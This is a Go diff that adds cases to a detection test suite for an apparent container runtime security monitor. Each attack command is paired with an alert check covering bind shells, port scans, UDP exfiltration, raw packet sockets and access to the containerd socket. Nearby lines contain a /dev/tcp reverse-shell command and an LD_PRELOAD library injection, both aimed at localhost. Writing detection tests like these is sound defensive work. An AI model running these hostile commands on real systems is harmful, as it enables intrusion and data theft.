@@ -72,6 +72,26 @@ var attacks = []attack{
 	{"preload", "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so cat /dev/null", opened("/tmp/evil.so")},
 	{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true", executed("/usr/bin/bash")},
 
+	// Peers, ports and sockets that are not the workload's.
+	{"bind-shell", "attack bind-shell", func(a *alert.Alert) bool {
+		c := a.Deviation.Contact
+		return c != nil && c.Direction == "listen" && c.Protocol == "TCP" && c.Port == 4444
+	}},
+	{"scan-ports", "attack scan-ports", func(a *alert.Alert) bool {
+		c := a.Deviation.Contact
+		return c != nil && c.Direction == "egress" && c.Address == "127.0.0.1" && c.Port >= 20_000 && c.Port < 20_200
+	}},
+	{"exfiltrate", "attack exfiltrate", func(a *alert.Alert) bool {
+		c := a.Deviation.Contact
+		return c != nil && c.Direction == "egress" && c.Protocol == "UDP" && c.Address == "127.0.0.2" && c.Port == 5353
+	}},
+	{"packet-socket", "attack packet-socket", func(a *alert.Alert) bool {
+		return a.Deviation.Socket != nil && a.Deviation.Socket.Family == "packet"
+	}},
+	{"control-socket", "mkdir -p /run/containerd; attack control-socket /run/containerd/containerd.sock", func(a *alert.Alert) bool {
+		return a.Deviation.Contact != nil && a.Deviation.Contact.Path == "/run/containerd/containerd.sock"
+	}},
+
 	// System calls that are not the workload's.
 	{"ptrace", "attack ptrace", called("ptrace")},
 	{"vm-read", "attack vm-read", called("process_vm_readv")},
